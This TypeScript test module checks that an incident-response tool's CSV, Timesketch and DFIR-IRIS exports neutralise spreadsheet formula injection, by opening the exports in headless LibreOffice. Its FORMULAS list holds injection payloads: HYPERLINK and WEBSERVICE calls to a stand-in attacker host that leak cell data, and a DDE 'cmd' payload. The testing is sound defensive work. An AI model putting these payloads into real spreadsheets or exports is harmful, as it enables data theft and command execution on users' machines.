import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Firebreak, Peer } from './peer.ts';

/** What a spreadsheet would run, open or send away, if it stood at the beginning of a cell. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?x="&A1;"click")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '-2+3',
  '@SUM(1;1)',
  `=cmd|' /C calc'!A0`,
  '   =1+1',
];

const TABLES = ['csv', 'timesketch', 'iris'];

/**
 * Whether LibreOffice, which opens a CSV as its person would, finds no formula in any of ours: whatever people wrote is text there, and can be
 * read. The control: the same words in a file without our guard become formulas.
 */
export function spreadsheetPeer(firebreak: Firebreak, work: string): Peer {
  const home = join(work, 'spreadsheet');
  const tables = join(home, 'tables');
  mkdirSync(tables, { recursive: true, mode: 0o700 });
  const run = firebreak(home);
  run('declare', 'leaked-whatsapp-token', '--title', 'A token leaked');
  for (const words of FORMULAS) {
    run('decide', '--question', 'Which way?', '--option', 'this', '--why', words);
    run('evidence', 'add', '--note', words, '--', process.execPath, '--version');
  }
  for (const id of TABLES) run('export', '--format', id, '--out', join(tables, `${id}.csv`));
  const unguarded = FORMULAS.map((words) => `"${words.replaceAll('"', '""')}"\r\n`).join('');
  writeFileSync(join(tables, 'control.csv'), unguarded);
  const opened = openAll(home, tables);
  const of = (id: string): string => opened.get(`${id}.fods`) ?? '';
  return {
    name: 'spreadsheet',
    checks: {
      ...Object.fromEntries(
        TABLES.flatMap((id) => [
          [`LibreOffice opens ${id} row by row`, rowsOf(of(id)) > FORMULAS.length],
          [`it finds no formula in ${id}`, formulasIn(of(id)) === 0],
          [`it shows in ${id} what was written`, SEEN.every((words) => of(id).includes(words))],
        ]),
      ),
      'python reads the events as the import of DFIR-IRIS does': python(IRIS, join(tables, 'iris.csv')),
      'and as that of Timesketch does': python(TIMESKETCH, join(tables, 'timesketch.csv')),
    },
    controls: {
      'without the guard it finds formulas': formulasIn(of('control')) >= 3,
      'the events of the one are none for the other':
        !python(IRIS, join(tables, 'timesketch.csv')) && !python(TIMESKETCH, join(tables, 'iris.csv')),
    },
  };
}

const SEEN = ['HYPERLINK(', 'WEBSERVICE(', 'calc'];

const formulasIn = (sheet: string): number => sheet.match(/table:formula=/g)?.length ?? 0;
const rowsOf = (sheet: string): number => sheet.match(/<table:table-row/g)?.length ?? 0;

/** Line by line, as it is split there, and with the form of time that its schema takes. */
const IRIS = `
import csv, datetime, re, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='').read().splitlines()))
assert len(rows) > ${FORMULAS.length}
for row in rows:
    assert list(row) == 'event_date event_tz event_title event_category event_content event_raw event_source event_assets event_iocs event_tags'.split()
    assert None not in row.values() and len(row['event_title']) > 1
    assert row['event_assets'] == row['event_iocs'] == row['event_category'] == ''
    datetime.datetime.strptime(row['event_date'], '%Y-%m-%dT%H:%M:%S.%f')
    assert re.fullmatch('[+-][0-9]{2}:[0-9]{2}', row['event_tz'])
`;
const TIMESKETCH = `
import csv, datetime, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
assert len(rows) > ${FORMULAS.length}
for row in rows:
    assert row['message'] and row['timestamp_desc'] and datetime.datetime.fromisoformat(row['datetime']).tzinfo
`;
const python = (code: string, path: string): boolean =>
  spawnSync('python3', ['-c', code, path], { stdio: 'ignore' }).status === 0;

/** Every table as a flat sheet of XML, where a formula is an attribute of its cell. */
function openAll(home: string, tables: string): ReadonlyMap<string, string> {
  const out = join(home, 'opened');
  const files = readdirSync(tables).map((name) => join(tables, name));
  const profile = `-env:UserInstallation=file://${join(home, 'profile')}`;
  const args = [profile, '--headless', '--convert-to', 'fods', '--outdir', out, ...files];
  spawnSync('soffice', args, { stdio: 'ignore', timeout: 180_000, env: { ...process.env, HOME: home } });
  return new Map(readdirSync(out).map((name) => [name, readFileSync(join(out, name), 'utf8')]));
}
